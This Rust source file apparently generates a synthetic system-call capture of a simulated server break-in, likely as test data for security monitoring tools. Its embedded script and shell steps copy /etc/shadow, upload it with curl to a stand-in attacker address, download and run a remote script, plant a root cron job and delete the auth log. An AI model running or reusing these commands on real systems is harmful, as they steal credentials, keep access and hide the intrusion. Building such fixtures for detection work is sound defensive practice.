//! `break-in.scap`: root's password is guessed, a script is fetched and run, passwords leave, a cron
//! file stays, the log goes.

use super::login::{login, logout, page};
use super::proc::{FORK, Proc};
use super::recorder::{CWD, Recorder, open, tuple};
use super::world::{ATTACKER, Machine, SERVER, START, start};
use scapkit_format::schema::id;
use scapkit_format::synth::Params;

const SCRIPT: &[u8] = b"#!/bin/bash\n\
    cat /etc/shadow > /tmp/.s\n\
    curl -s -T /tmp/.s http://203.0.113.66:8080/up\n\
    echo '*/5 * * * * root /tmp/.x.sh' > /etc/cron.d/sys-update\n\
    rm -f /var/log/auth.log /tmp/.s\n";

/// The plain capture.
pub fn capture() -> Vec<u8> {
    let m = Machine::new();
    let mut r = Recorder::new(start(&m), START);
    page(&mut r, &m, "/");
    r.wait_ms(6_500);
    let (session, mut shell) = login(&mut r, &m);
    r.wait_ms(2_900);
    type_in(&mut r, &shell, "id\n");
    identity(&mut r, &shell);
    page(&mut r, &m, "/cart");
    r.wait_ms(4_100);
    type_in(&mut r, &shell, "curl -so /tmp/.x.sh http://203.0.113.66/x.sh\n");
    fetch(&mut r, &shell);
    type_in(&mut r, &shell, "chmod 755 /tmp/.x.sh\n");
    make_executable(&mut r, &shell);
    type_in(&mut r, &shell, "/tmp/.x.sh\n");
    script(&mut r, &shell);
    r.wait_ms(60);
    cron(&mut r, &m);
    r.wait_ms(1_700);
    shell.faults += 210;
    logout(&mut r, &m, &session, &shell);
    r.synth.finish()
}

/// The shell reads a line, one key at a time; the first and the last are recorded.
fn type_in(r: &mut Recorder, shell: &Proc, line: &str) {
    r.read(shell, 0, &line.as_bytes()[..1], 1);
    r.write(shell, 2, line.as_bytes());
    r.read(shell, 0, b"\n", 1);
}

/// fork, execve and loading of a program.
#[allow(clippy::too_many_arguments)]
fn run(
    r: &mut Recorder,
    parent: &Proc,
    tid: i64,
    (comm, filename, ino): (&'static str, &'static str, u64),
    exe: &'static str,
    args: &[&'static str],
    prepare: impl FnOnce(&mut Recorder, &Proc),
) -> Proc {
    let mut p = r.clone(parent, tid, FORK);
    prepare(r, &p);
    (p.comm, p.exe, p.exepath, p.exe_ino) = (comm, exe, filename, ino);
    (p.args, p.vm, p.faults) = (args.to_vec(), (5_600, 1_980), 64);
    if parent.exe == "-bash" {
        // An interactive shell gives each job a process group.
        p.pgid = tid;
    }
    r.execve(&p, filename);
    r.load(&p);
    p
}

fn identity(r: &mut Recorder, shell: &Proc) {
    let p = run(r, shell, 4_031, ("id", "/usr/bin/id", 131_210), "id", &[], |_, _| ());
    r.open(&p, 3, "/etc/passwd", open::READ | open::CLOEXEC, 0, 262_301);
    r.read(&p, 3, b"root:x:0:0:root:/root:/bin/bash\n", 4_096);
    r.close(&p, 3);
    r.write(&p, 1, b"uid=0(root) gid=0(root) groups=0(root)\n");
    r.exit(&p, Some(shell), 0);
}

fn fetch(r: &mut Recorder, shell: &Proc) {
    let args = ["-so", "/tmp/.x.sh", "http://203.0.113.66/x.sh"];
    let p = run(r, shell, 4_032, ("curl", "/usr/bin/curl", 131_877), "curl", &args, |_, _| ());
    let (local, remote) = ((SERVER, 46_210), (ATTACKER, 80));
    let out = tuple(local, remote);
    r.socket(&p, 5, 2, 1 | 0x8_0000, 6);
    // EINPROGRESS: curl's sockets do not block.
    r.connect(&p, 5, local, remote, -115);
    r.poll(&p, 5, 4, 1_000);
    // SO_ERROR: no error.
    let no_error = Params::new().i64(0).i64(5).u8(1).u8(4).bytes(&[1, 0, 0, 0, 0, 0, 0, 0, 0]).u32(4);
    r.put(&p, id::SOCKET_GETSOCKOPT_X, &no_error);
    r.send(&p, 5, b"GET /x.sh HTTP/1.1\r\nHost: 203.0.113.66\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", &out);
    r.poll(&p, 5, 1, 1_000);
    let answer = [b"HTTP/1.1 200 OK\r\nContent-Length: 218\r\n\r\n", SCRIPT].concat();
    r.receive(&p, 5, &answer, 16_384, &tuple(remote, local));
    let create = open::WRITE | open::CREAT | open::TRUNC | open::CREATED;
    r.open(&p, 6, "/tmp/.x.sh", create, 0o644, 655_366);
    r.write(&p, 6, SCRIPT);
    r.close(&p, 6);
    r.close(&p, 5);
    r.exit(&p, Some(shell), 0);
}

fn make_executable(r: &mut Recorder, shell: &Proc) {
    let program = ("chmod", "/usr/bin/chmod", 131_105);
    let p = run(r, shell, 4_033, program, "chmod", &["755", "/tmp/.x.sh"], |_, _| ());
    r.put(&p, id::SYSCALL_FCHMODAT_X, &Params::new().i64(0).i64(CWD).str("/tmp/.x.sh").u32(0o755));
    r.exit(&p, Some(shell), 0);
}

fn script(r: &mut Recorder, shell: &Proc) {
    let mut p = r.clone(shell, 4_034, FORK);
    (p.pgid, p.comm, p.exe, p.args) = (p.tid, ".x.sh", "/bin/bash", vec!["/tmp/.x.sh"]);
    p.faults = 71;
    r.execve(&p, "/tmp/.x.sh");
    r.load(&p);
    r.open(&p, 3, "/tmp/.x.sh", open::READ, 0, 655_366);
    r.read(&p, 3, SCRIPT, 80);
    r.dup2(&p, 3, 255);
    r.close(&p, 3);
    r.read(&p, 255, SCRIPT, SCRIPT.len() as u32);
    steal(r, &p);
    upload(r, &p);
    // echo is built in: the shell itself writes the cron file.
    let create = open::WRITE | open::CREAT | open::TRUNC | open::CREATED;
    r.open(&p, 3, "/etc/cron.d/sys-update", create, 0o666, 262_977);
    // F_DUPFD keeps the shell's own output aside.
    r.put(&p, id::SYSCALL_FCNTL_X, &Params::new().i64(10).i64(1).u8(1).u64(10));
    r.dup2(&p, 3, 1);
    r.close(&p, 3);
    r.write(&p, 1, b"*/5 * * * * root /tmp/.x.sh\n");
    r.dup2(&p, 10, 1);
    r.close(&p, 10);
    let program = ("rm", "/usr/bin/rm", 131_322);
    let rm = run(r, &p, 4_037, program, "rm", &["-f", "/var/log/auth.log", "/tmp/.s"], |_, _| ());
    for name in ["/var/log/auth.log", "/tmp/.s"] {
        r.put(&rm, id::SYSCALL_UNLINKAT_2_X, &Params::new().i64(0).i64(CWD).str(name).u32(0));
    }
    r.exit(&rm, Some(&p), 0);
    r.read(&p, 255, b"", SCRIPT.len() as u32);
    r.exit(&p, Some(shell), 0);
}

fn steal(r: &mut Recorder, parent: &Proc) {
    let create = open::WRITE | open::CREAT | open::TRUNC | open::CREATED;
    let program = ("cat", "/usr/bin/cat", 131_090);
    let p = run(r, parent, 4_035, program, "cat", &["/etc/shadow"], |r, p| {
        r.redirect(p, 1, "/tmp/.s", create, 655_370);
    });
    r.open(&p, 3, "/etc/shadow", open::READ, 0, 262_302);
    let shadow = b"root:$y$j9T$documentation$0000000000000000000000000000000000000000000:20400:0:::::\n\
        deploy:!:20400:0:99999:7:::\n";
    r.read(&p, 3, shadow, 131_072);
    r.write(&p, 1, shadow);
    r.read(&p, 3, b"", 131_072);
    r.close(&p, 3);
    r.exit(&p, Some(parent), 0);
}

fn upload(r: &mut Recorder, parent: &Proc) {
    let args = ["-s", "-T", "/tmp/.s", "http://203.0.113.66:8080/up"];
    let p = run(r, parent, 4_036, ("curl", "/usr/bin/curl", 131_877), "curl", &args, |_, _| ());
    let (local, remote) = ((SERVER, 46_222), (ATTACKER, 8_080));
    let out = tuple(local, remote);
    r.open(&p, 4, "/tmp/.s", open::READ, 0, 655_370);
    r.socket(&p, 5, 2, 1 | 0x8_0000, 6);
    r.connect(&p, 5, local, remote, -115);
    r.poll(&p, 5, 4, 1_000);
    r.send(&p, 5, b"PUT /up HTTP/1.1\r\nHost: 203.0.113.66:8080\r\nContent-Length: 112\r\n\r\n", &out);
    r.read(&p, 4, b"root:$y$j9T$documentation$0000000000000000000000000000000000000000000:20400:0:::::\n", 65_536);
    r.send(&p, 5, b"root:$y$j9T$documentation$0000000000000000000000000000000000000000000:20400:0:::::\n", &out);
    r.poll(&p, 5, 1, 1_000);
    r.receive(&p, 5, b"HTTP/1.1 201 Created\r\n\r\n", 16_384, &tuple(remote, local));
    r.close(&p, 5);
    r.close(&p, 4);
    r.exit(&p, Some(parent), 0);
}

/// cron notices the new file.
fn cron(r: &mut Recorder, m: &Machine) {
    let p = &m.cron;
    r.put(p, id::SYSCALL_STAT_X, &Params::new().i64(0).str("/etc/cron.d"));
    r.open(p, 4, "/etc/cron.d/sys-update", open::READ, 0, 262_977);
    r.read(p, 4, b"*/5 * * * * root /tmp/.x.sh\n", 4_096);
    r.read(p, 4, b"", 4_096);
    r.close(p, 4);
}
